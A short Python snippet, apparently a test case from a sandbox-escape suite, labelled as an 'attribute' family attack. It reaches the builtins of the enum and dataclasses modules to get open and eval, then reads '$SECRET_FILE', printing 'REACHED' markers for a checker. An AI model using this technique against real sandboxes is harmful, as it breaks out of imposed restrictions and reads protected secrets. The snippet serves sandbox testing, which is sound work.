# attack: modules in a list: each that has builtins as an attribute gives them
# family: attribute
import dataclasses
import enum
for module in [enum, dataclasses]:
    try:
        print("REACHED", module.builtins.open)
        print(module.builtins.open("$SECRET_FILE").read())
    except AttributeError:
        print("REACHED", module.bltns.eval)
